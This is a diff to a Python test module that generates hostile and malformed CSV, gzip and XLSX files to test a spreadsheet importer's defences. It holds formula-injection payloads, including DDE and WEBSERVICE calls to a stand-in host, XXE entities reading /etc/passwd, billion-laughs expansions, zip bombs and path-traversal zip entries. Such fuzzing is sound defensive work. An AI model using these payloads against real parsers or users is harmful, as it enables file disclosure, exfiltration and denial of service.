@@ -30,9 +30,17 @@ def _row(headings: Sequence[str], cell: str) -> bytes:
     return (",".join([cell] * len(headings)) + "\n").encode()
 
 
-def formulae(sign: str) -> Maker:
+PAYLOADS = (
+    "cmd|' /C calc'!A0",
+    'HYPERLINK(""http://people.example/?x="",1)',
+    'WEBSERVICE(""http://people.example/"")',
+    "1+1",
+)
+
+
+def formulae(sign: str, payload: str) -> Maker:
     def make(folder, headings):
-        return _csv(folder, "formulae.csv", _head(headings) + _row(headings, f"{sign}cmd|' /C calc'!A0"))
+        return _csv(folder, "formulae.csv", _head(headings) + _row(headings, f'"{sign}{payload}"'))
 
     return make
 
@@ -77,28 +85,30 @@ def gzip_of_rows(folder, headings):
     return _csv(folder, "rows.csv.gz", packed)
 
 
-def nul(folder, headings):
-    return _csv(folder, "nul.csv", _head(headings) + _row(headings, "1\0"))
+def control(character: str, *, in_heading: bool = False) -> Maker:
+    def make(folder, headings):
+        head = [*headings[:-1], headings[-1] + character] if in_heading else headings
+        row = _row(headings, "1" if in_heading else f"1{character}")
+        return _csv(folder, "control.csv", _head(head) + row)
+
+    return make
 
 
-def nul_in_heading(folder, headings):
-    return _csv(folder, "nul.csv", _head([*headings[:-1], headings[-1] + "\0"]) + _row(headings, "1"))
+def written_in(encoding: str, mark: bytes = b"") -> Maker:
+    def make(folder, headings):
+        text = (_head(headings) + _row(headings, "1")).decode()
+        return _csv(folder, "letters.csv", mark + text.encode(encoding))
+
+    return make
 
 
-def bell(folder, headings):
-    return _csv(folder, "bell.csv", _head(headings) + _row(headings, "1\x07"))
+def ill_formed(tail: bytes, mark: bytes = b"\xef\xbb\xbf") -> Maker:
+    """Make a file that says it is UTF-8 and is not."""
 
+    def make(folder, headings):
+        return _csv(folder, "utf8.csv", mark + _head(headings) + tail + b"\n")
 
-def utf16_without_mark(folder, headings):
-    return _csv(folder, "utf16.csv", (_head(headings) + _row(headings, "1")).decode().encode("utf-16-le"))
-
-
-def utf32(folder, headings):
-    return _csv(folder, "utf32.csv", (_head(headings) + _row(headings, "1")).decode().encode("utf-32"))
-
-
-def broken_utf8(folder, headings):
-    return _csv(folder, "utf8.csv", b"\xef\xbb\xbf" + _head(headings) + b"\xff\xfe\xfd\n")
+    return make
 
 
 def no_letters(folder, headings):
@@ -109,61 +119,88 @@ def broken_utf16(folder, headings):
     return _csv(folder, "utf16.csv", b"\xff\xfe" + _head(headings).decode().encode("utf-16-le") + b"\x00\xd8\x00")
 
 
-def truncated_gzip(folder, headings):
-    whole = gzip.compress(_head(headings) + b"".join(_row(headings, str(n)) for n in range(5_000)))
-    return _csv(folder, "cut.csv.gz", whole[: len(whole) // 2])
+def cut_gzip(share: float) -> Maker:
+    def make(folder, headings):
+        whole = gzip.compress(_head(headings) + b"".join(_row(headings, str(n)) for n in range(5_000)))
+        return _csv(folder, "cut.csv.gz", whole[: int(len(whole) * share)])
+
+    return make
 
 
-def truncated_xlsx(folder, headings):
-    path = workbook(folder, headings, [["1"] * len(headings)])
-    return _csv(folder, "cut.xlsx", path.read_bytes()[:-200])
+def cut_workbook(share: float) -> Maker:
+    def make(folder, headings):
+        whole = workbook(folder, headings, [["1"] * len(headings)]).read_bytes()
+        return _csv(folder, "cut.xlsx", whole[: int(len(whole) * share)])
+
+    return make
 
 
 def truncated_quote(folder, headings):
     return _csv(folder, "cut.csv", _head(headings) + b'"begun and never')
 
 
-def damaged_gzip(folder, headings):
-    whole = bytearray(gzip.compress(_head(headings) + b"".join(_row(headings, str(n)) for n in range(5_000))))
-    whole[len(whole) // 2] ^= 0xFF
-    return _csv(folder, "bad.csv.gz", bytes(whole))
+def damaged_gzip(share: float) -> Maker:
+    def make(folder, headings):
+        whole = bytearray(gzip.compress(_head(headings) + b"".join(_row(headings, str(n)) for n in range(5_000))))
+        whole[int(len(whole) * share)] ^= 0xFF
+        return _csv(folder, "bad.csv.gz", bytes(whole))
+
+    return make
 
 
-def xml_with(name: str, prolog: str, encoding: str = "utf-8") -> Maker:
+STRINGS, SHEET, BOOK = "xl/sharedStrings.xml", "xl/worksheets/sheet1.xml", "xl/workbook.xml"
+
+
+def xml_with(prolog: str, encoding: str = "utf-8", part: str = STRINGS) -> Maker:
+    """Put XML before, and so into, one part of an honest workbook."""
+
     def make(folder, headings):
         path = workbook(folder, headings, [["1"] * len(headings)])
-        out = folder / name
+        out = folder / "xml.xlsx"
         with zipfile.ZipFile(path) as book, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as copy:
             for entry in book.infolist():
                 text = book.read(entry).decode()
-                if entry.filename == "xl/sharedStrings.xml":
-                    text = text[text.index("?>") + 2 :]
-                    text = prolog + text
-                copy.writestr(entry.filename, text.encode(encoding if "sharedStrings" in entry.filename else "utf-8"))
+                if entry.filename == part:
+                    text = prolog + text[text.index("?>") + 2 :]
+                copy.writestr(entry.filename, text.encode(encoding if entry.filename == part else "utf-8"))
         return out
 
     return make
 
 
 XXE = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
+PARAMETER = '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://people.example/x.dtd"> %p;]>'
+EXTERNAL = '<!DOCTYPE x SYSTEM "http://people.example/x.dtd">'
+QUADRATIC = f'<!DOCTYPE x [<!ENTITY q "{"q" * 50_000}">]>'
 LAUGHS = "<!DOCTYPE x [" + "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10 if n else "lol"}">' for n in range(9)) + "]>"
 
 
-def huge_cell(folder, headings):
-    return _csv(folder, "cell.csv", _head(headings) + _row(headings, "x" * 200_000))
+def huge_cell(letter: str, count: int) -> Maker:
+    def make(folder, headings):
+        return _csv(folder, "cell.csv", _head(headings) + _row(headings, letter * count))
+
+    return make
+
+
+def one_line(letter: bytes, count: int) -> Maker:
+    """Make a file that is one line without an end."""
+
+    def make(folder, headings):
+        return _csv(folder, "line.csv", _head(headings) + letter * count)
+
+    return make
 
 
 def huge_heading(folder, headings):
     return _csv(folder, "heading.csv", _head([*headings, "x" * 500_000]) + _row(headings, "1"))
 
 
-def many_columns(folder, headings):
-    wide = [*headings, *(f"c{number}" for number in range(5_000))]
-    return _csv(folder, "columns.csv", _head(wide) + _row(wide, "1"))
+def many_columns(count: int) -> Maker:
+    def make(folder, headings):
+        wide = [*headings, *(f"c{number}" for number in range(count))]
+        return _csv(folder, "columns.csv", _head(wide) + _row(wide, "1"))
 
-
-def many_rows(folder, headings):
-    return _csv(folder, "rows.csv", _head(headings) + _row(headings, "1") * 50_000)
+    return make
 
 
 def far_cell(folder, headings):
@@ -175,16 +212,11 @@ def far_cell(folder, headings):
     return path
 
 
-def deep_xml(folder, headings):
-    return xml_with("deep.xlsx", "<a>" * 200_000)(folder, headings)
+def deep_text(opening: bytes, closing: bytes = b"") -> Maker:
+    def make(folder, headings):
+        return _csv(folder, "deep.csv", opening * 200_000 + closing * 200_000)
 
-
-def deep_xml_unclosed_cells(folder, headings):
-    return xml_with("deep.xlsx", "<sst><si><t>" + "<b i='1'>x" * 200_000)(folder, headings)
-
-
-def deep_brackets(folder, headings):
-    return _csv(folder, "deep.csv", b"[" * 200_000)
+    return make
 
 
 def wrong_headings(folder, headings):
@@ -203,35 +235,69 @@ def blank(folder, headings):
     return _csv(folder, "blank.csv", b"\n,,,\n  \n")
 
 
-def twice_the_heading(folder, headings):
-    return _csv(folder, "twice.csv", _head([*headings, headings[0]]) + _row([*headings, "x"], "1"))
+def text_alone(content: bytes) -> Maker:
+    """Make a file that is this and nothing else."""
+
+    def make(folder, headings):
+        return _csv(folder, "other.csv", content)
+
+    return make
 
 
-def short_row(folder, headings):
-    return _csv(folder, "short.csv", _head(headings) + b"1\n")
+def heading_twice(place: int) -> Maker:
+    def make(folder, headings):
+        twice = [*headings, headings[place % len(headings)]]
+        return _csv(folder, "twice.csv", _head(twice) + _row(twice, "1"))
+
+    return make
 
 
-def long_row(folder, headings):
-    return _csv(folder, "long.csv", _head(headings) + _row([*headings, "x"], "1"))
+def ragged(cells: int, *, end: bytes = b"\n", sign: bytes = b"1") -> Maker:
+    """Make a table with a row of so many cells more (or fewer) than headings."""
+
+    def make(folder, headings):
+        count = max(len(headings) + cells, 1)
+        return _csv(folder, "ragged.csv", _head(headings) + b",".join([sign] * count) + end)
+
+    return make
 
 
-def unpaired_quotes(folder, headings):
-    return _csv(folder, "quotes.csv", _head(headings) + b'"a"b,' + _row(headings[1:], "1"))
+def quoted(row: bytes) -> Maker:
+    def make(folder, headings):
+        return _csv(folder, "quotes.csv", _head(headings) + row + b"," + _row(headings[1:], "1"))
+
+    return make
 
 
-def old_excel(folder, headings):
-    return _csv(folder, "old.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4_000))
+def of_kind(name: str, start: bytes) -> Maker:
+    """Make a file of another kind, by its first bytes."""
+
+    def make(folder, headings):
+        return _csv(folder, name, start + bytes(4_000))
+
+    return make
 
 
-def pdf(folder, headings):
-    return _csv(folder, "table.csv", b"%PDF-1.7\n" + bytes(100))
+def zip_of(**parts: bytes) -> Maker:
+    """Make a zip that is no workbook."""
+
+    def make(folder, headings):
+        path = folder / "other.xlsx"
+        with zipfile.ZipFile(path, "w") as book:
+            for name, content in parts.items():
+                book.writestr(name, content)
+        return path
+
+    return make
 
 
-def other_zip(folder, headings):
-    path = folder / "other.xlsx"
-    with zipfile.ZipFile(path, "w") as book:
-        book.writestr("readme.txt", b"no workbook")
-    return path
+def locked_zip(folder, headings):
+    """Make a zip that says its parts need a password."""
+    path = zip_of(**{"xl/workbook.xml": b"<workbook/>"})(folder, headings)
+    content = bytearray(path.read_bytes())
+    for sign, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
+        content[content.index(sign) + place] |= 1
+    return _csv(folder, "locked.xlsx", bytes(content))
 
 
 def workbook(folder: Path, headings: Sequence[str], rows: Sequence[Sequence[object]], name: str = "table.xlsx") -> Path:
@@ -244,35 +310,115 @@ def workbook(folder: Path, headings: Sequence[str], rows: Sequence[Sequence[obje
     return path
 
 
+TAGS = ("<a>", "<sst><si><t>" + "<b i='1'>x", "<worksheet><row>", "<x y='z'><w>")
+CONTROL = "\0\x01\x07\x08\x0b\x0c\x1b\x1f"
+CUTS = (0.1, 0.3, 0.5, 0.7, 0.9)
 FAMILIES: dict[str, tuple[Maker, ...]] = {
-    "formulae": tuple(formulae(sign) for sign in "=+-@"),
-    "zip bombs": (zip_bomb, lying_zip, many_entries),
-    "gzip bombs": (gzip_bomb, gzip_of_rows),
-    "control characters": (nul, nul_in_heading, bell),
-    "wrong encodings": (utf16_without_mark, utf32, broken_utf8, no_letters, broken_utf16),
-    "truncated": (truncated_gzip, truncated_xlsx, truncated_quote, damaged_gzip),
-    "XML entities": (
-        xml_with("xxe.xlsx", XXE),
-        xml_with("laughs.xlsx", LAUGHS),
-        xml_with("utf16.xlsx", XXE, "utf-16"),
+    "formulae": tuple(formulae(sign, payload) for sign in "=+-@" for payload in PAYLOADS),
+    "bombs": (
+        zip_bomb,
+        lying_zip,
+        many_entries,
+        gzip_bomb,
+        gzip_of_rows,
+        locked_zip,
+        zip_of(**{"../../x": b"x"}),
+        zip_of(**{"/etc/x": b"x"}),
+        zip_of(**{"xl/workbook.xml": b"PK\x03\x04" * 1_000}),
+        zip_of(**{"inner.zip": b"PK\x05\x06" + bytes(18)}),
+        zip_of(),
+        text_alone(gzip.compress(gzip.compress(b"0" * 100_000))),
+        text_alone(gzip.compress(bytes(1_000_000))),
+        text_alone(b"PK\x05\x06" + bytes(18)),
     ),
-    "huge": (huge_cell, huge_heading, many_columns, far_cell),
-    "deep": (deep_xml, deep_xml_unclosed_cells, deep_brackets),
-    "wrong headings": (wrong_headings, no_headings, empty, blank, twice_the_heading),
-    "ragged": (short_row, long_row, unpaired_quotes),
-    "other kinds": (old_excel, pdf, other_zip),
-}
-WITHOUT_HEADINGS = {
-    zip_bomb,
-    lying_zip,
-    many_entries,
-    deep_brackets,
-    wrong_headings,
-    empty,
-    blank,
-    old_excel,
-    pdf,
-    other_zip,
+    "control characters": tuple(control(each, in_heading=place) for place in (False, True) for each in CONTROL),
+    "wrong encodings": (
+        *(
+            written_in(each)
+            for each in ("utf-16-le", "utf-16-be", "utf-32", "utf-32-le", "utf-32-be", "cp037", "cp500")
+        ),
+        written_in("utf-16-be", b"\xff\xfe"),
+        written_in("utf-8", b"\xff\xfe"),
+        no_letters,
+        broken_utf16,
+        *(
+            ill_formed(tail)
+            for tail in (b"\xff\xfe\xfd", b"\xc0\xaf", b"\xed\xa0\x80", b"\xf4\x90\x80\x80", b"\xe2\x82")
+        ),
+    ),
+    "truncated": (
+        *(cut_gzip(share) for share in CUTS),
+        *(cut_workbook(share) for share in CUTS),
+        *(damaged_gzip(share) for share in CUTS[1:]),
+        truncated_quote,
+    ),
+    "XML entities": (
+        *(xml_with(each, part=part) for each in (XXE, LAUGHS, EXTERNAL, PARAMETER) for part in (STRINGS, SHEET, BOOK)),
+        xml_with(XXE, "utf-16"),
+        xml_with(LAUGHS, "utf-16"),
+        xml_with(QUADRATIC),
+    ),
+    "huge": (
+        *(huge_cell(letter, count) for letter in "x9é" for count in (40_000, 200_000)),
+        huge_heading,
+        *(many_columns(count) for count in (2_500, 5_000, 20_000)),
+        far_cell,
+        *(one_line(letter, 3_000_000) for letter in (b"x", b'"', b",", b'"",')),
+    ),
+    "deep": (
+        *(xml_with(tag * 200_000, part=part) for tag in TAGS for part in (STRINGS, SHEET)),
+        *(deep_text(each) for each in (b"[", b'{"a":', b"<a>", b'["', b"(")),
+        deep_text(b"[", b"]"),
+        deep_text(b"<a>", b"</a>"),
+    ),
+    "wrong headings": (
+        wrong_headings,
+        no_headings,
+        empty,
+        blank,
+        *(heading_twice(place) for place in (0, 1, -1)),
+        *(
+            text_alone(each)
+            for each in (
+                b"\xef\xbb\xbf",
+                b"\n" * 1_000,
+                b",",
+                b'""',
+                b"a",
+                b"Pupil;Mark\nA;5\n",
+                b"URN\n",
+                b"urn,name\n",
+                b"sourcedId\n1\n",
+            )
+        ),
+    ),
+    "ragged": (
+        *(ragged(cells) for cells in (-1_000, 1, 2, 50)),
+        *(ragged(1, end=each) for each in (b"", b"\r\n", b"\r")),
+        *(ragged(3, sign=each) for each in (b'"x"', b"'", b"0")),
+        *(quoted(each) for each in (b'"a"b', b'a"b"', b'"a""', b'"a" "b"')),
+    ),
+    "other kinds": (
+        *(
+            of_kind(name, start)
+            for name, start in (
+                ("old.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"),
+                ("table.csv", b"%PDF-1.7\n"),
+                ("a.png", b"\x89PNG\r\n\x1a\n"),
+                ("a.jpg", b"\xff\xd8\xff\xe0"),
+                ("a.gif", b"GIF89a"),
+                ("a.bin", b"\x7fELF"),
+                ("a.exe", b"MZ\x90\0"),
+                ("a.db", b"SQLite format 3\0"),
+                ("a.7z", b"7z\xbc\xaf\x27\x1c"),
+                ("a.rar", b"Rar!\x1a\x07"),
+                ("a.xz", b"\xfd7zXZ\0"),
+            )
+        ),
+        *(text_alone(each) for each in (b"<html><table><tr><td>URN", b'{"urn": 1}\n', b"<?xml version='1.0'?><a/>\n")),
+        zip_of(**{"readme.txt": b"no workbook"}),
+        zip_of(**{"word/document.xml": b"<w/>"}),
+    ),
 }
 CASES = [(family, number, make) for family, makers in FAMILIES.items() for number, make in enumerate(makers, 1)]
 
